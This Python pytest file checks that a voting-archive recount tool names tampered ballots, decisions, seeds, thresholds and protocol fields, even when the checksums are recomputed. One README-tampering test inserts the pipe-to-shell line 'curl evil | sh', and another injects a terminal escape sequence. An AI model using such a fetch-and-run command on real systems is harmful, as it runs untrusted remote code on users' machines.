"""A recount names what was changed, even where the checksums were made to fit."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from contextlib import suppress
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from consensus import __version__
from consensus.cli import main
from consensus.errors import BadInput
from consensus.protocol import LogRow, Record, export, verify
from tests.bad_input.archives import files_of, pack, signed
from tests.consensus.protocol import making

LOG = (
    *making.LOG[:1],
    LogRow("2014-04-10T10:00:00+00:00", "facilitator", "draw", {"round": "V", "seed": "271828"}),
    LogRow("2014-04-10T10:01:00+00:00", "facilitator", "seal", {"round": "V", "counts": {"advance": 2, "cut": 1}}),
)


def sealed(record: Record) -> LogRow:
    counts = record.replayed.round("V").counts
    return LogRow("2014-04-10T10:01:00+00:00", "facilitator", "seal", {"round": "V", "counts": counts})


@pytest.fixture
def recount(tmp_path: Path) -> Callable[[bytes], list[str]]:
    def counted(content: bytes) -> list[str]:
        path = tmp_path / "archive.zip"
        path.write_bytes(content)
        return verify(path)

    return counted


Recount = Callable[[bytes], list[str]]


def changed(record: Record, file: str, old: str, new: str, count: int = 1) -> bytes:
    """The archive with a text replaced in one file, and with checksums that fit."""
    files = files_of(export(record, ".zip"))
    text = files[file].decode()
    assert old in text
    return signed({**files, file: text.replace(old, new, count).encode()})


def test_an_archive_that_agrees_is_said_to_agree(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "archive.zip"
    path.write_bytes(export(making.decided(), ".zip"))
    with pytest.raises(SystemExit) as end:
        main(["verify", str(path)])
    assert end.value.code == 0
    assert capsys.readouterr() == ("archive.zip: the recount agrees\n", "")


def test_one_changed_vote_is_named_with_round_item_and_field(recount: Recount) -> None:
    found = recount(changed(making.simple(), "ballots.csv", "V,2,p00,yes", "V,2,p00,no"))
    assert "round V, item 2, votes, yes: the archive says 1, the recount 0" in found
    assert 'round V, item 2, measures, yes: the archive says "1/4", the recount "0/4"' in found
    assert all("item 2" in difference or "round V, agreement" in difference for difference in found)


def test_a_vote_that_changes_a_protocol_is_named_wherever_it_shows(recount: Recount) -> None:
    found = recount(changed(making.simple(), "ballots.csv", "V,3,p00,yes", "V,3,p00,no"))
    assert 'round V, item 3, verdict: the archive says "advance", the recount "cut"' in found
    assert "protocols, list: the archive says [1, 3], the recount [1]" in found
    assert any(difference.startswith("protocol.csv, row 3") for difference in found)


def test_a_dropped_paper_is_named(recount: Recount) -> None:
    files = files_of(export(making.simple(), ".zip"))
    kept = b"".join(line for line in files["ballots.csv"].splitlines(keepends=True) if b"p03" not in line)
    found = recount(signed({**files, "ballots.csv": kept}))
    assert "round V, papers: the archive says 4, the recount 3" in found


def test_a_changed_decision_is_named(recount: Recount) -> None:
    found = recount(changed(making.decided(), "decisions.csv", "V,2,advance", "V,2,hold"))
    assert 'round V, item 2, verdict: the archive says "advance", the recount "hold"' in found


def test_a_changed_reason_of_a_decision_is_named(recount: Recount) -> None:
    found = recount(changed(making.decided(), "decisions.csv", "It covers the other.", "I wanted it."))
    assert any(difference.startswith("round V, item 2, reason:") for difference in found)


def test_another_seed_is_named(recount: Recount) -> None:
    record = making.lot()
    record = replace(record, log=(*LOG[:2], sealed(record)))
    assert recount(export(record, ".zip")) == []
    won = record.replayed.protocols["list"]
    for seed in map(str, range(100_000, 100_020)):
        found = recount(changed(record, "decisions.csv", "271828", seed))
        assert 'log.csv, lot of round V: the log says "271828", decisions.csv "' + seed + '"' in found
        if any("protocols, list" in difference for difference in found):
            return
    pytest.fail(f"every seed drew {won}")


def test_a_seed_that_draws_the_same_is_named_without_a_log(recount: Recount) -> None:
    record = replace(making.lot(), log=())
    for seed in map(str, range(100_000, 100_020)):
        found = recount(changed(record, "decisions.csv", "271828", seed))
        assert f'lots, V: the archive says "271828", the recount "{seed}"' in found


def test_a_plan_that_cannot_be_read_names_the_archive_once(tmp_path: Path) -> None:
    archive = tmp_path / "archive.zip"
    archive.write_bytes(changed(making.simple(), "plan.toml", "title =", "title"))
    with pytest.raises(BadInput, match=r"^archive\.zip: plan\.toml, line 1: "):
        verify(archive)


def test_another_threshold_in_the_plan_is_named(recount: Recount) -> None:
    found = recount(changed(making.simple(), "plan.toml", "yes >= 50%", "yes >= 75%"))
    assert any(difference.startswith("plan, sha256:") for difference in found)
    assert 'round V, item 3, verdict: the archive says "advance", the recount "cut"' in found


def test_items_that_changed_places_are_named(recount: Recount) -> None:
    files = files_of(export(making.simple(), ".zip"))
    head, one, two, three = files["items.csv"].decode().splitlines()
    one, two = f"1{two[1:]}", f"2{one[1:]}"
    found = recount(signed({**files, "items.csv": "\n".join([head, one, two, three, ""]).encode()}))
    assert (
        'item 1, text: the archive says "Item number 1 of the list", the recount "Item number 2 of the list"' in found
    )
    assert any(difference.startswith("protocol.csv, row 2 (item 1), text:") for difference in found)


def test_items_in_another_order_are_named(recount: Recount) -> None:
    files = files_of(export(making.simple(), ".zip"))
    head, one, two, three = files["items.csv"].decode().splitlines()
    found = recount(signed({**files, "items.csv": "\n".join([head, three, two, one, ""]).encode()}))
    assert any("another order" in difference or "published" in difference for difference in found)


def test_another_attendance_is_named(recount: Recount) -> None:
    found = recount(changed(making.inquorate(), "attendance.csv", "V,,4,3", "V,,3,3"))
    assert "round V, entitled: the archive says 4, the recount 3" in found
    assert "round V, item 2, inquorate: the archive says true, the recount false" not in found
    assert "round V, item 1, reason" not in found


def test_a_seat_less_that_lowers_the_quorum_is_named(recount: Recount) -> None:
    found = recount(changed(making.inquorate(), "attendance.csv", "V,,4,3", "V,,5,3"))
    assert "round V, item 1, inquorate: the archive says false, the recount true" in found


def test_another_verdict_in_the_protocol_is_named(recount: Recount) -> None:
    found = recount(changed(making.simple(), "protocol.json", '"verdict": "cut"', '"verdict": "advance"'))
    assert found == ['round V, item 2, verdict: the archive says "advance", the recount "cut"']


def test_another_number_in_the_csv_is_named(recount: Recount) -> None:
    found = recount(changed(making.simple(), "protocol.csv", "4 of 4 yes", "3 of 4 yes"))
    assert len(found) == 1
    assert found[0].startswith("protocol.csv, row 2 (item 1), figure: the archive says")


def test_another_outcome_in_the_log_is_named(recount: Recount) -> None:
    record = making.simple()
    record = replace(record, log=(*record.log, sealed(record)))
    assert recount(export(record, ".zip")) == []
    (found,) = recount(changed(record, "log.csv", '""advance"": 2', '""advance"": 3'))
    assert found.startswith("log.csv, seal of round V: the log says")


def test_another_readme_is_named(recount: Recount) -> None:
    (found,) = recount(changed(making.simple(), "README.txt", "consensus verify", "curl evil | sh"))
    assert found.startswith("README.txt: its text")


def test_another_version_of_the_program_is_named_where_its_archive_differs(recount: Recount) -> None:
    def of_another(content: bytes) -> bytes:
        files = files_of(content)
        return signed({**files, "README.txt": files["README.txt"].replace(__version__.encode(), b"9.9.9rc1")})

    assert recount(of_another(export(making.simple(), ".zip"))) == []
    *others, last = recount(of_another(changed(making.simple(), "protocol.csv", "yes", "Yes")))
    assert others
    assert "Consensus 9.9.9rc1" in last
    assert __version__ in last


def _json(record: Record, change: Callable[[Any], object]) -> bytes:
    files = files_of(export(record, ".zip"))
    stored = json.loads(files["protocol.json"])
    change(stored)
    return signed({**files, "protocol.json": json.dumps(stored).encode()})


@pytest.mark.parametrize(
    ("change", "says"),
    [
        (lambda s: s["rounds"].insert(0, {**s["rounds"][0], "pool": 99}), "round V: stands in the archive twice"),
        (lambda s: s["rounds"][0]["items"].append(s["rounds"][0]["items"][0]), "item 1: stands in the archive twice"),
        (lambda s: s["rounds"][0]["items"].pop(1), "round V, item 2: the archive says nothing"),
        (lambda s: s["rounds"][0]["items"].reverse(), "round V, items: they stand in another order"),
        (lambda s: s["published"].reverse(), "published: they stand in another order"),
        (lambda s: s["rounds"].clear(), "round V: the archive says nothing"),
        (lambda s: s["rounds"][0]["items"][0].update(kind="x"), "round V, item 1, kind:"),
        (lambda s: s["rounds"][0]["items"][0].pop("kind"), "round V, item 1, kind: the archive says nothing"),
        (lambda s: s["rounds"][0]["items"][0].update(tied=0), "tied: the archive says 0, the recount false"),
        (lambda s: s["rounds"][0].update(pool=3.0), "round V, pool: the archive says 3.0, the recount 3"),
        (lambda s: s.update(more=[[[]]] * 1000), "more: the archive says [[[]]"),
        (lambda s: s.update(rounds={"V": 1}), "rounds: the archive says"),
        (lambda s: s.update({"\x1b[2J\n": 1}), "the archive says 1, the recount nothing"),
        (lambda s: s["protocols"]["list"].reverse(), "protocols, list: the archive says [3, 1]"),
    ],
)
def test_a_protocol_that_says_otherwise_is_named(change: Callable[[Any], object], says: str, recount: Recount) -> None:
    found = recount(_json(making.simple(), change))
    assert any(says in difference for difference in found), found
    assert all(difference.isprintable() and len(difference) <= 500 for difference in found)


def test_the_same_protocol_in_other_bytes_agrees(recount: Recount) -> None:
    assert recount(_json(making.simple(), lambda stored: None)) == []


def test_a_protocol_of_something_else_is_named(recount: Recount) -> None:
    files = files_of(export(making.simple(), ".zip"))
    assert any("the archive says [1, 2]" in found for found in recount(signed({**files, "protocol.json": b"[1, 2]"})))


def test_endless_differences_are_cut_short(recount: Recount) -> None:
    found = recount(_json(making.simple(), lambda s: s["items"].extend({"number": n} for n in range(10, 3_000))))
    assert len(found) == 1001
    assert "not listed" in found[-1]


@pytest.mark.parametrize("file", [name for name in files_of(export(making.decided(), ".zip")) if name != "SHA256SUMS"])
def test_a_file_changed_without_its_checksum_is_named(file: str, recount: Recount) -> None:
    files = files_of(export(making.decided(), ".zip"))
    found = recount(pack({**files, file: files[file].replace(b"\n", b"\r\n", 1)}))
    assert f"{file}: its checksum is not the one in SHA256SUMS" in found


def test_the_checksums_are_those_of_sha256sum() -> None:
    files = files_of(export(making.simple(), ".zip"))
    assert all(re.fullmatch(r"[0-9a-f]{64}  \S+", line) for line in files["SHA256SUMS"].decode().splitlines())


def test_differences_end_the_command_with_2(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "archive.zip"
    path.write_bytes(changed(making.simple(), "ballots.csv", "V,2,p00,yes", "V,2,p00,no"))
    with pytest.raises(SystemExit) as end:
        main(["verify", str(path)])
    out, err = capsys.readouterr()
    assert end.value.code == 2
    assert "round V, item 2, votes, yes: the archive says 1, the recount 0" in out
    assert err.count("\n") == 1


@pytest.mark.parametrize("name", making.KINDS)
def test_every_single_changed_cell_of_the_ballots_is_noticed(name: str, recount: Recount) -> None:
    """Each vote of each kind of conference, changed to another choice of its ballot, one at a time."""
    record: Record = making.KINDS[name]()
    files = files_of(export(record, ".zip"))
    rows = list(csv.reader(io.StringIO(files["ballots.csv"].decode())))
    for place in range(1, len(rows)):
        if not rows[place][1]:
            continue
        choices = record.plan.round(rows[place][0]).ballot.choices
        other = next((choice for choice in choices if choice != rows[place][3]), None)
        if other is None:
            continue
        altered = [[*row[:3], other, *row[4:]] if at == place else row for at, row in enumerate(rows)]
        out = io.StringIO()
        csv.writer(out, lineterminator="\n").writerows(altered)
        with suppress(BadInput):  # a whole paper that no longer keeps to its form, a decision without its tie
            assert recount(signed({**files, "ballots.csv": out.getvalue().encode()})), rows[place]


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
@example(data=None)
def test_whatever_bytes_are_changed_it_agrees_differs_or_is_refused(data: Any, recount: Recount) -> None:
    """No damage, in the zip or in a file with fitting checksums, ends in another error."""
    good = export(making.two_kinds(), ".zip")
    if data is None:
        assert recount(good) == []
        return
    files = files_of(good)
    name = data.draw(st.sampled_from(["", *files]))
    content = bytearray(files[name] if name else good)
    for _ in range(data.draw(st.integers(1, 3))):
        at = data.draw(st.integers(0, len(content) - 1))
        content[at : at + data.draw(st.integers(0, 3))] = data.draw(st.binary(max_size=4) | st.sampled_from(WORDS))
    altered = bytes(content) if not name else signed({**files, name: bytes(content)})
    try:
        lines = recount(altered)
        same = not lines
    except BadInput as error:
        lines, same = [str(error)], False
    assert all(line.isprintable() for line in lines)
    assert not same or name in ("", "log.csv", "SHA256SUMS", *COUNTED) or bytes(content) == files[name]


#: files whose bytes may change without changing anything that is counted: a space, a line end, a comment
COUNTED = ("items.csv", "ballots.csv", "decisions.csv", "attendance.csv", "protocol.json", "plan.toml")
WORDS = [
    *(b'"', b",", b"\n", b"\r", b"0", b"99999999999", b"\0", b"\xff", b"yes", b"abstain", b"core", b"{}", b"["),
    b"\xef\xbb\xbf",
]


def test_a_recount_that_fails_says_which_file_was_changed(recount: Recount) -> None:
    files = files_of(export(making.decided(), ".zip"))
    altered = files["ballots.csv"].replace(b"V,2,p00,yes", b"V,2,p00,no")
    with pytest.raises(BadInput, match=r"item 2 is not tied in round V.*; ballots.csv: its checksum is not the one"):
        recount(pack({**files, "ballots.csv": altered}))


def test_an_archive_sorts_ballots_that_come_in_another_order() -> None:
    for name, make in making.KINDS.items():
        found = make()
        turned = replace(found, ballots=tuple(reversed(found.ballots)))
        assert export(found, ".zip") == export(turned, ".zip"), name
